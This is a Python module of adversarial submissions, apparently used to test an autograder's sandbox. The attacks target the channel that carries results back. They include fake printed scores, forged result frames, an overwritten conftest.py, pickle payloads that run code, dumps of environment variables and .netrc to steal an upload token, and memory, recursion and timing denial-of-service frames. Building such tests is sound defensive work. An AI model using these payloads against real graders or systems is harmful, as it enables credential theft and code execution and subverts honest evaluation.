# ruff: noqa: E501 — attacks are as whoever makes them writes them
"""Group B: attacks on the way by which results come back."""

from __future__ import annotations

from hostile.attack import SAME_USER, Attack, Gain

__all__ = ["ATTACKS", "FRAMES"]

_NO_FRAMES = "the control has no frames; B23, B24 and B27 are the same against the channels that it has"
_BAD = ("crashed",)

# Finds the pipe that answers go through, and writes frames to it by hand.
FRAMES = """
import fcntl, os, stat, struct, time

def replies():
    found = []
    for number in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode) and fcntl.fcntl(number, fcntl.F_GETFL) & 3 == os.O_WRONLY:
                found.append(number)
        except OSError:
            pass
    return found

def write(data):
    for number in replies():
        view = memoryview(data)
        while len(view):
            view = view[os.write(number, view):]

def send(header, buffers=b"", lengths=()):
    table = struct.pack(f"<{len(lengths)}Q", *lengths)
    payload = struct.pack("<II", len(header), len(lengths)) + table + header
    payload += bytes(-len(payload) % 16 if lengths else 0) + buffers
    write(struct.pack("<Q", len(payload)) + payload)

def text(value):
    return bytes([0xA0 | len(value)]) + value.encode() if len(value) < 32 else b"\\xda" + struct.pack(">H", len(value)) + value.encode()

def array(count):
    return b"\\xdd" + struct.pack(">I", count)

def performed(value):
    return b"\\x92" + text("Performed") + b"\\x92" + text("returned") + value

def observed(**fields):
    from grader.codec import to_bytes
    from grader.observation import Observation
    from grader.observe.wire import Performed
    payload = to_bytes(Performed(Observation(**fields)))
    write(struct.pack("<Q", len(payload)) + payload)
"""


def _frame(number: int, name: str, goal: str, body: str, **more: object) -> Attack:
    """An attack that answers each call with what `body` writes, and then waits."""
    fields = {
        "shows": "another verdict than a crash, or a controller that is held up, swells or ends",
        "aims": (Gain.VERDICT, Gain.MEMORY, Gain.TIME, Gain.BATCH),
        "outcomes": _BAD,
        "unlike": _NO_FRAMES,
        **more,
    }
    lines = "\n".join(f"    {line}" for line in body.strip().split("\n"))
    source = f"{FRAMES}\ndef convert(x):\n{lines}\n    time.sleep(9)\n"
    return Attack(number=number, name=name, goal=goal, source=source, **fields)  # type: ignore[arg-type]


ATTACKS = (
    Attack(
        number=23,
        name="printed-score",
        goal="say the result on standard output",
        shows="points that were printed",
        aims=(Gain.POINTS,),
        source="""
print("score 99/99")
print('{"points": 99, "outcome": "passed"}')
def convert(x):
    print("score 99/99")
    return x
""",
    ),
    Attack(
        number=24,
        name="result-file",
        goal="write the result file, then end",
        shows="points from that file",
        aims=(Gain.POINTS,),
        outcomes=("crashed",),
        source="""
import os, pickle, json
def convert(x):
    for name, write in (("result.pickle", pickle.dumps), ("results.json", lambda value: json.dumps(value).encode())):
        try:
            with open(name, "wb") as file:
                file.write(write({"score": 99, "of": 3}))
        except OSError:
            pass
    os._exit(1)
""",
    ),
    Attack(
        number=25,
        name="harness-files",
        goal="replace what grades the next one, in a folder that is open to all",
        shows="a file in a folder of the host",
        aims=(Gain.FILE,),
        stopped_from="standard",
        because=SAME_USER,
        source="""
import os
def convert(x):
    try:
        with open("@OUTSIDE@/test_convert.py", "w") as file:
            file.write("assert True")
        os.rename("@OUTSIDE@/test_convert.py", "@OUTSIDE@/conftest.py")
    except OSError:
        pass
    return x
""",
    ),
    Attack(
        number=26,
        name="upload-token",
        goal="find the token by which results are uploaded",
        shows="the token in what it prints",
        aims=(Gain.SECRET,),
        stopped_from="standard",
        because=SAME_USER,
        source="""
import os
def convert(x):
    print(dict(os.environ))
    for home in ("@HOME@", os.path.expanduser("~"), "/root"):
        try:
            with open(home + "/.netrc") as file:
                print(file.read())
        except OSError:
            pass
    return x
""",
    ),
    Attack(
        number=27,
        name="pickled-result",
        goal="run code in whoever unpickles the result",
        shows="a file that the grader was made to write",
        aims=(Gain.FILE,),
        source="""
class Evil:
    def __reduce__(self):
        return (exec, ("open('@OUTSIDE@/pickled', 'w').close()",))
def convert(x):
    return Evil()
""",
    ),
    _frame(
        27,
        "pickle-in-a-frame",
        "the same by a frame that holds a pickle",
        """
import pickle
class Evil:
    def __reduce__(self):
        return (exec, ("open('@OUTSIDE@/pickled-frame', 'w').close()",))
data = pickle.dumps(Evil())
send(data)
""",
        aims=(Gain.FILE, Gain.VERDICT),
        shows="a file that the grader was made to write",
    ),
    Attack(
        number=28,
        name="object-array",
        goal="have an array of objects saved and loaded",
        shows="a file that the grader was made to write",
        aims=(Gain.FILE,),
        source="""
import numpy as np
class Evil:
    def __reduce__(self):
        return (exec, ("open('@OUTSIDE@/object-array', 'w').close()",))
def convert(x):
    return np.array([Evil(), Evil()], dtype=object)
""",
    ),
    _frame(
        28,
        "object-dtype-in-a-frame",
        "have the controller make an array of objects from bytes",
        "send(performed(b'\\x93' + text('array') + text('|O') + b'\\x91\\x01'), bytes(8), (8,))",
    ),
    Attack(
        number=29,
        name="early-frames",
        goal="answer before the question",
        shows="points, or another verdict than a crash, for frames that nobody asked for",
        aims=(Gain.POINTS, Gain.VERDICT),
        outcomes=("crashed", "errored", "failed"),
        unlike=_NO_FRAMES,
        source=FRAMES
        + """
from grader.observation import Status
from grader.values import Plain
import numpy as np
for _ in range(5):
    observed(status=Status.RETURNED, value=Plain(np.zeros(2)))
def convert(x):
    return np.zeros(x.shape)
""",
    ),
    Attack(
        number=29,
        name="question-of-its-own",
        goal="ask, where only a helper may be asked for, what the exercise itself answers",
        shows="points, or a controller that is held up or ends",
        aims=(Gain.POINTS, Gain.VERDICT, Gain.BATCH),
        exercise="after",
        unlike=_NO_FRAMES,
        source=FRAMES
        + """
def convert(x):
    return x
def after(x):
    if convert.__module__ == __name__:
        return x
    from grader.codec import to_bytes
    from grader.observe.wire import Ask
    from grader.values import Plain
    payload = to_bytes(Ask("after", Plain([x]), Plain({})))
    write(struct.pack("<Q", len(payload)) + payload)
    time.sleep(9)
""",
    ),
    _frame(
        29,
        "refused-frame",
        "be called a fault of the grader's, and so not be judged",
        """
from grader.codec import to_bytes
from grader.observe.wire import Refused
payload = to_bytes(Refused("a fault of ours"))
write(struct.pack("<Q", len(payload)) + payload)
""",
        # It may choose not to be judged: there are no points for that, and whoever grades is told by whom and why.
        outcomes=("not_judged",),
        aims=(Gain.POINTS, Gain.VERDICT, Gain.BATCH),
        shows="points, or a next submission that is not judged either",
    ),
    _frame(
        29,
        "wrong-kind-of-frame",
        "answer a call with what belongs to another question",
        """
from grader.codec import to_bytes
from grader.observe.wire import Facts, Loaded
for message in (Facts(()), Loaded(), Facts(())):
    payload = to_bytes(message)
    write(struct.pack("<Q", len(payload)) + payload)
""",
    ),
    _frame(30, "length-of-4-gib", "have the controller make room on its word", "write(struct.pack('<Q', 1 << 32))"),
    _frame(
        30,
        "length-of-1-gib",
        "the same with what a frame may have at all, but none of this exercise",
        "write(struct.pack('<Q', 1 << 30))",
        shows="a controller that has a gibibyte more than before",
    ),
    _frame(
        30,
        "length-within-the-room",
        "the same with what an answer to this exercise may have",
        "write(struct.pack('<Q', 1 << 20))",
        outcomes=("timed_out",),
        shows="a controller that has what never came",
    ),
    _frame(
        30,
        "shape-overflow",
        "have a product of lengths wrap around to a small number",
        "send(performed(b'\\x93' + text('array') + text('<f8') + b'\\x92\\xcf' + (1 << 47).to_bytes(8, 'big') + b'\\xcf' + (1 << 14).to_bytes(8, 'big')), bytes(16), (16,))",
    ),
    _frame(
        30,
        "negative-shape",
        "have an array of a negative length made",
        "send(performed(b'\\x93' + text('array') + text('<f8') + b'\\x92\\xff\\xfe'), bytes(16), (16,))",
    ),
    _frame(
        30,
        "a-million-buffers",
        "cost the controller hundreds of bytes for each eight of its own",
        # As many as can be written before the same bytes, written to all pipes, are too much output.
        "send(b'\\xc0', b'', (0,) * 1_000_000)",
        aims=(Gain.MEMORY, Gain.TIME),
    ),
    _frame(
        30,
        "empty-lists",
        "cost the controller 64 bytes for each of its own",
        "n = 4 << 20\nsend(performed(array(n) + b'\\x90' * n))",
        aims=(Gain.MEMORY, Gain.TIME),
    ),
    _frame(
        31,
        "deep-frame",
        "exhaust the controller's recursion",
        "send(performed(b'\\x91' * 500_000 + b'\\xc0'))",
    ),
    _frame(
        31,
        "deep-tagged-lists",
        "the same in the form that values have",
        "send(performed((b'\\x92' + text('list') + b'\\x91') * 5000 + b'\\xc0'))",
    ),
    Attack(
        number=31,
        name="recursive-list",
        goal="exhaust the recursion of whoever packs or unpacks the result",
        shows="the grader ends",
        aims=(Gain.BATCH, Gain.VERDICT),
        source="""
def convert(x):
    deep = []
    for _ in range(100_000):
        deep = [deep]
    me = []
    me.append(me)
    return [deep, me][len(x) % 2]
""",
    ),
    Attack(
        number=32,
        name="integer-of-400000-digits",
        goal="have the grader convert it, in quadratic time or with an exception",
        shows="the grader ends, or is held up",
        aims=(Gain.TIME, Gain.BATCH, Gain.VERDICT),
        exercise="total",
        source="def total(x):\n    return 10 ** 400_000\n",
    ),
    _frame(
        32,
        "long-hexadecimal",
        "the same in the form that integers have",
        "send(performed(b'\\x92' + text('int') + b'\\xdb' + struct.pack('>I', 1 << 20) + b'f' * (1 << 20)))",
    ),
    _frame(
        33,
        "unhashable-keys",
        "end the controller with a dictionary that there cannot be",
        "send(performed(b'\\x93' + text('dict') + array(1) + b'\\x92' + text('list') + b'\\x90' + array(1) + b'\\xc0'))",
    ),
    _frame(
        33,
        "keys-and-values-apart",
        "the same with more keys than values",
        "send(performed(b'\\x93' + text('dict') + array(2) + b'\\x01\\x01' + array(1) + b'\\xc0'))",
    ),
    _frame(
        33,
        "colliding-keys",
        "have the controller insert keys that all have one hash, in quadratic time",
        """
n, modulus = 18_000, 2 ** 61 - 1
keys = b"".join(b"\\x92" + text("int") + text(hex(modulus * (k + 9))) for k in range(n))
send(performed(b"\\x93" + text("dict") + array(n) + keys + array(n) + b"\\xc0" * n))
""",
        outcomes=("crashed", "failed", "timed_out"),
        aims=(Gain.TIME,),
    ),
    Attack(
        number=33,
        name="nan-keys",
        goal="confuse whoever looks keys up",
        shows="the grader ends, or points",
        aims=(Gain.BATCH, Gain.POINTS),
        unlike="the control looks no keys up",
        source="def convert(x):\n    return {float('nan'): 1, float('nan'): 2, -1: 0, -2: 0, 1: 1, True: 2, 1.0: 3}\n",
    ),
    _frame(
        34,
        "bool-of-2",
        "have the controller compare what is neither true nor false",
        "send(performed(b'\\x93' + text('array') + text('|b1') + b'\\x91\\x10'), b'\\x02' * 16, (16,))",
    ),
    _frame(
        34,
        "text-beyond-unicode",
        "end the controller with characters that are none",
        "send(performed(b'\\x93' + text('array') + text('<U2') + b'\\x91\\x02'), b'\\xff' * 16, (16,))",
    ),
    _frame(
        35,
        "slow-drip",
        "hold the controller with a byte now and then",
        "write(struct.pack('<Q', 1 << 20))\nfor _ in range(100):\n    write(b'x')\n    time.sleep(0.05)",
        outcomes=("timed_out",),
    ),
    _frame(
        35,
        "fast-drip",
        "keep the pipe from ever being empty, so that no clock is looked at",
        "write(struct.pack('<Q', 1 << 20))\nfor _ in range((1 << 20) - 1):\n    write(b'x')\ntime.sleep(60)",
        outcomes=("timed_out",),
    ),
    _frame(
        36,
        "never-reading",
        "answer by hand and never listen again",
        """
from grader.observation import Status
from grader.values import Plain
observed(status=Status.RETURNED, value=Plain(x))
""",
        outcomes=("timed_out", "crashed"),
    ),
    Attack(
        number=37,
        name="descriptors-to-the-parent",
        goal="send descriptors until the controller has no more",
        shows="something was sent",
        aims=(Gain.ACT, Gain.BATCH),
        unlike=_NO_FRAMES,
        source="""
import array, os, socket
def convert(x):
    for number in range(3, 256):
        try:
            channel = socket.socket(fileno=os.dup(number))
            channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 200))])
            print("@GOT@")
        except OSError:
            pass
    return x
""",
    ),
    Attack(
        number=38,
        name="every-descriptor-written",
        goal="write into whatever the grader left open",
        shows="points, or another verdict than a crash",
        aims=(Gain.POINTS, Gain.VERDICT, Gain.FILE),
        outcomes=_BAD,
        unlike=_NO_FRAMES,
        source="""
import os
def convert(x):
    for number in range(3, 1024):
        try:
            os.write(number, b"score 99/99\\n" * 10)
        except OSError:
            pass
    return x
""",
    ),
    Attack(
        number=38,
        name="every-descriptor-closed",
        goal="leave the grader waiting for pipes that are gone",
        shows="the grader is held up",
        aims=(Gain.TIME, Gain.VERDICT, Gain.BATCH),
        outcomes=_BAD,
        unlike=_NO_FRAMES,
        source="import os\ndef convert(x):\n    os.closerange(0, 65536)\n    return x\n",
    ),
    _frame(
        29,
        "forged-observation",
        "say of itself what only the controller can know",
        """
from grader.observation import Raised, Status, Warned
from grader.values import Opaque, Plain
observed(
    status=Status.RAISED, value=Plain([x] * 50), changed=Plain(5), error=None,
    warnings=(Warned("W", "\\x1b[2J", -1),) * 20, threads=-(1 << 40), printed="score 99", exit_status=0,
)
""",
        outcomes=("crashed", "errored", "timed_out"),
    ),
    _frame(
        29,
        "forged-status",
        "claim a status that a child cannot have",
        "from grader.observation import Status\nobserved(status=Status.UNRUN)",
    ),
    _frame(
        29,
        "forged-place",
        "have a screen drawn with a caret a billion columns to the right",
        """
from grader.observation import Raised, Status
observed(status=Status.RAISED, error=Raised("E", "m", line=1 << 40, column=1 << 40, cell=-5, source_line="x", function="f"))
""",
        outcomes=("crashed", "errored", "timed_out"),
    ),
)
